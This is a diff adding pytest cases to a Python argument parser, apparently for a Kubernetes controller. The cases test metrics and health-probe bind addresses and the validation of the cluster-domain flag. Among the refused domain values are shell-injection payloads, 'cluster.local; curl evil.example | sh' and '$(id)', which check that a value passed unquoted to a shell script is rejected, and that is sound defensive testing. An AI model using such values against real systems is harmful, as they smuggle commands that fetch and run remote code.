@@ -110,6 +110,89 @@ def test_bad_flags_exit_2(argv: list[str]) -> None:
 
 
 @pytest.mark.parametrize(
+    ("argv", "metrics", "health"),
+    [
+        # The reference's: no /metrics, /healthz on port 8080 of every address.
+        ([], None, ("0.0.0.0", 8080)),
+        (["--monitoring-port=8081"], ("0.0.0.0", 8081), ("0.0.0.0", 8080)),
+        (["--metrics-bind-address=127.0.0.1:9090"], ("127.0.0.1", 9090), ("0.0.0.0", 8080)),
+        (["--metrics-bind-address=:9090", "--monitoring-port=8081"], ("", 9090), None),
+        (["--metrics-bind-address=0", "--monitoring-port=8081"], None, None),
+        (["--metrics-bind-address=[::1]:9090"], ("::1", 9090), None),
+        (["--health-probe-bind-address=:9440", "--healthz-port=1"], None, ("", 9440)),
+        (["--health-probe-bind-address=localhost:0"], None, ("localhost", 0)),
+        (["--healthz-bind-address=127.0.0.1", "--healthz-port=9000"], None, ("127.0.0.1", 9000)),
+    ],
+)
+def test_where_metrics_and_healthz_listen(
+    argv: list[str], metrics: tuple[str, int] | None, health: tuple[str, int] | None
+) -> None:
+    """controller-runtime's --metrics-bind-address and --health-probe-bind-address
+    (host:port) win over the older port and address flags, which decide otherwise."""
+    opts = parse_args(argv, environ={})
+    assert opts.metrics_listen == metrics
+    if health is not None:
+        assert opts.health_listen == health
+
+
+@pytest.mark.parametrize(
+    ("flag", "value"),
+    [
+        ("--metrics-bind-address", "9090"),
+        ("--metrics-bind-address", "localhost"),
+        ("--metrics-bind-address", "::1:9090"),
+        ("--metrics-bind-address", "[nope]:9090"),
+        ("--metrics-bind-address", ":70000"),
+        ("--metrics-bind-address", ":http"),
+        ("--health-probe-bind-address", "0"),
+        ("--health-probe-bind-address", "a b:8080"),
+        ("--health-probe-bind-address", "8080"),
+    ],
+)
+def test_a_bind_address_that_is_not_host_port_is_refused_naming_the_flag(
+    flag: str, value: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    with pytest.raises(SystemExit) as exc:
+        parse_args([f"{flag}={value}"], environ={})
+    assert exc.value.code == 2
+    assert f"argument {flag}: " in capsys.readouterr().err
+
+
+@pytest.mark.parametrize(
+    "domain",
+    ["cluster.local", "cluster.local.", "c", "a-1.b2", "x" * 63 + "." + "y" * 63],
+)
+def test_a_dns_cluster_domain_is_taken_as_given(domain: str) -> None:
+    assert parse_args(["--cluster-domain", domain], environ={}).cluster_domain == domain
+
+
+@pytest.mark.parametrize(
+    "domain",
+    [
+        "cluster.local; curl evil.example | sh",
+        "$(id)",
+        "a b",
+        "Cluster.Local",
+        "-x.local",
+        "a..b",
+        ".local",
+        "x" * 64,
+        ".".join(["abcdefg"] * 32) + "x",  # 256 characters
+        "cluster.local\n",
+    ],
+)
+def test_a_cluster_domain_that_is_no_dns_domain_is_refused_naming_the_flag(
+    domain: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """It goes unquoted into discover_hosts.sh: the process refuses to start."""
+    with pytest.raises(SystemExit) as exc:
+        parse_args([f"--cluster-domain={domain}"], environ={})
+    assert exc.value.code == 2
+    err = capsys.readouterr().err
+    assert "argument --cluster-domain:" in err and "is not a DNS domain" in err
+
+
+@pytest.mark.parametrize(
     ("argv", "message"),
     [
         (
